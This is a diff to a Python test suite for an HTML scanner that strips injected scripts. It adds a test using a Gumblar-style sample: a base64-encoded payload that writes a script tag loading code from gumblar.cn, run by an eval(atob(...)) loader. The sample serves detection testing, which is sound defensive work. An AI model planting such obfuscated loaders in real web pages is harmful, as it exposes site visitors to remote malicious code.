@@ -22,6 +22,8 @@ And the opposite: pages that quote IOCs and do ordinary things with them stay un
 
 from __future__ import annotations
 
+import base64
+
 import pytest
 
 from .test_htmlscan_mentions import html, strip
@@ -200,3 +202,14 @@ def test_hosts_a_browser_canonicalises_are_recognised(url: str) -> None:
     body = html(f"<script>location.href = '{url}'</script>")
     out, findings = strip(body)
     assert [f.removed for f in findings] == [True], findings
+
+
+def test_a_base64_data_block_run_by_a_loader_is_removed() -> None:
+    # Gumblar-style: the payload names nothing readable; the loader decodes it.
+    payload = base64.b64encode(b"document.write('<script src=//gumblar.cn/x.js></scr'+'ipt>')")
+    block = f'<script type="text/plain" id="p">\n{payload.decode()}\n</script>'
+    out, (f,) = strip(html(block + "<script>eval(atob(p.text))</script>"))
+    assert f.removed and b"text/plain" not in out
+    alone = html(block)  # no loader: reported, kept
+    out, (g,) = strip(alone)
+    assert out is alone and g.reason == "mention" and not g.removed
